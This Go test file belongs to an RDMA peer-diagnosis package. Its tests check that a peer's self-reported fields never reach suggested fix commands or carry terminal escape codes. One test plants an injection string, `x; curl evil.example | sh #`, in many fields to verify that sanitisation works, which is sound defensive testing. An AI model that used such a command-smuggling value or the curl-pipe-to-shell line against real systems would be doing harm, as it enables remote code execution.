package doctor

import (
	"encoding/json"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gobw/gobw/verbs"
)

// TestPeerWritesNoCommand: what a peer says of itself never becomes part of a command that is to be copied.
func TestPeerWritesNoCommand(t *testing.T) {
	evil := `x; curl evil.example | sh #`
	said := End{
		Name: evil, IBVError: "no library\n\x1b[2J" + evil, IBVRemedy: evil,
		Devices: []Device{{
			Info:  verbs.DeviceInfo{Name: evil, NetInterface: evil, PCIAddress: evil, Ports: 1},
			Ports: []verbs.PortInfo{{Number: 1, State: verbs.PortDown, NetInterface: evil}},
		}},
		System: System{
			Linux: true, Governor: evil, DefaultInterface: evil, DeniedDeviceFiles: []string{evil}, RDMAHardware: []string{evil},
			ModuleAvailable: map[string]bool{"rdma_rxe": true, evil: true}, Port4791: evil,
		},
	}
	text, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	end, err := ParsePeer(text)
	if err != nil {
		t.Fatal(err)
	}
	found := Examine(end, 1<<30)
	if len(found) == 0 {
		t.Fatal("an end that has everything wrong is found clean")
	}
	for _, f := range found {
		if fixes := strings.Join(f.Fix, "\n"); strings.Contains(fixes, "curl") {
			t.Errorf("%s: the peer's words in a command:\n%s", f.Check, fixes)
		}
		if strings.ContainsAny(f.What+f.Where, "\n\x1b") {
			t.Errorf("%s steers the terminal: %q, %q", f.Check, f.Where, f.What)
		}
	}
}

// TestPeerKeepsItsWords: a healthy end reads back as it was written, and is as clean at the other end.
func TestPeerKeepsItsWords(t *testing.T) {
	said := End{Name: "peer", Devices: []Device{{
		Info: verbs.DeviceInfo{Name: "mlx5_0", Provider: "ibv", Firmware: "22.39.1002 (rel-4)", PCIAddress: "0000:3b:00.0", PCILinkSpeed: "16.0 GT/s PCIe", PCILinkWidth: 16, Ports: 1},
		Ports: []verbs.PortInfo{{
			Number: 1, State: verbs.PortActive, LinkLayer: verbs.LinkEthernet, ActiveMTU: verbs.MTU4096, MaxMTU: verbs.MTU4096,
			Rate: "100 Gb/sec (4X EDR)", RateBitsPerS: 100e9, NetInterface: "ens3f0",
		}},
		GIDs: map[int][]verbs.GIDEntry{1: {{GID: verbs.GIDFromAddr(netip.MustParseAddr("192.0.2.1")), Type: verbs.GIDRoCEv2}}},
	}}}
	text, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	end, err := ParsePeer(text)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(said.Devices, end.Devices); diff != "" {
		t.Errorf("the peer's devices were changed on the way (-said +read):\n%s", diff)
	}
	if found := ExaminePair(said, end); len(found) > 0 {
		t.Errorf("one end and itself: %+v", found)
	}
}

// FuzzPeer reads what anybody may say of himself.
func FuzzPeer(f *testing.F) {
	f.Add([]byte(`{"name":"x","devices":[{"info":{"name":"rxe0"},"ports":[{"number":1}],"gids":{"1":[]}}],"system":{"linux":true}}`))
	names := regexp.MustCompile(`^[A-Za-z0-9_.:@/+?-]*$`)
	f.Fuzz(func(t *testing.T, b []byte) {
		end, err := ParsePeer(b)
		if err != nil {
			return
		}
		for _, d := range end.Devices {
			if !names.MatchString(d.Info.Name) || !names.MatchString(d.Info.NetInterface) {
				t.Errorf("%q, %q pass for names", d.Info.Name, d.Info.NetInterface)
			}
		}
		_ = ExaminePair(end, end)
		for _, finding := range Examine(end, 1) {
			if strings.Contains(finding.What+strings.Join(finding.Fix, ""), "\n") {
				t.Errorf("%q, %q", finding.What, finding.Fix)
			}
		}
	})
}
